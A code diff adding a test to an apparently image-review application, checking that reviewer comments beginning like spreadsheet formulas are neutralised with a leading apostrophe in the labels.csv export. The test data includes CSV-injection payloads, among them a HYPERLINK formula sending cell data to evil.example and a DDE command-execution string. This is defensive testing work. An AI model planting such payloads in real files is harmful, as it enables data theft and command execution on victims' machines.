@@ -596,6 +596,30 @@ def test_export_holds_reviewed_parts_by_label(st, session):
     assert len([n for n in names if not n.endswith("labels.csv")]) == len(labels)
 
 
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"details")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
+            "@SUM(1,2)", "-2+3", "\tSUM(1,2)", "\r=1+1")
+
+
+def test_comments_a_spreadsheet_would_run_are_neutralised_in_the_export(st, session):
+    """A reviewer's comment that begins like a formula (=, +, -, @, tab, carriage return) is written into
+    labels.csv with a leading apostrophe, so a spreadsheet shows it as text (OWASP's CSV injection)."""
+    parts = {}
+    for k, comment in enumerate(FORMULAS):
+        part = explained(st, f"formula-{k}.png", variant("scratch", 930 + k))
+        verdict = {"verdict": "confirm", "comment": comment}
+        assert api_review(st, part["result_id"], verdict).status_code == 201
+        parts[part["image_sha256"]] = comment
+    admin, _ = session("ada")
+    zf = zipfile.ZipFile(io.BytesIO(admin.get("/export.zip").content))
+    text = zf.read(next(n for n in zf.namelist() if n.endswith("/labels.csv"))).decode()
+    rows = {r["image_sha256"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    for sha, comment in parts.items():
+        stored = comment.strip()  # the station keeps comments without surrounding white space
+        expected = "'" + stored if stored.startswith(("=", "+", "-", "@")) else stored
+        assert rows[sha]["comment"] == expected, (comment, rows[sha]["comment"])
+    assert all(not r["comment"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values())
+
+
 def test_export_needs_admin(st, session):
     reviewer, _ = session("rita")
     assert reviewer.get("/export.zip", follow_redirects=False).status_code == 403
